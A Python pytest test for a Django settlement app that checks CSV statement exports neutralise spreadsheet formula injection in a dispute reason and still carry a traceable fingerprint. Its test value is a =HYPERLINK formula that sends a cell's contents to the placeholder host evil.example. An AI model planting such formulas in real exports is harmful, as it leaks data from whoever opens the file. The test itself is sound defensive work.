"""Settlement statements: an agency's dispute reason that starts a formula reaches the bank's file as
text (neutralised by :mod:`fieldcollect.core.cells`); amounts stay numbers; the file still traces."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from fieldcollect.cli import app
from fieldcollect.privacy import fingerprint as fpr
from fieldcollect.settlement import exports, services
from fieldcollect.settlement.tests.conftest import MARCH
from fieldcollect.testing.clients import logged_in

pytestmark = pytest.mark.django_db
EVIL = "=HYPERLINK(\"http://evil.example/?d=\"&B3,\"details\")"


def _plain(cell: str) -> str:
    return fpr.strip(cell).rstrip(" ")


def test_settlement_statement_neutralises_the_dispute_reason(settled, tmp_path) -> None:
    s = settled
    st = services.statement_generate(agency=s.a, month=MARCH, acting_user=s.manager)
    line = st.lines.order_by("pk").first()
    assert line is not None
    services.line_dispute(line=line, reason=EVIL, acting_user=s.mgr_a)
    c = logged_in(s.manager)
    data = c.get(f"/settlement/{st.pk}/csv?lang=en").content
    lines = [[_plain(v) for v in r] for r in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
    reasons = [r[-1] for r in lines[2:] if r[-1]]
    assert reasons == ["'" + EVIL]
    assert not [v for r in lines[1:] for v in r if v[:1] in ("=", "+", "@", "\t", "\r") or (v[:1] == "-" and
                not v[1:].replace(".", "").isdigit())]
    totals = {r[0]: r for r in lines if r and r[0] in ("Total", "Payable")}
    assert totals["Total"][4] == "1533.33" and totals["Payable"][6].replace(".", "").isdigit()
    # the statement text for the bank's own use neutralises it the same way
    assert "'" + EVIL.replace('"', '""') in exports.statement_csv(st, lang="en")
    path = tmp_path / "statement.csv"
    path.write_bytes(data)
    run = CliRunner().invoke(app, ["leak", "trace", str(path)])
    assert run.exit_code == 0 and s.manager.username in run.output
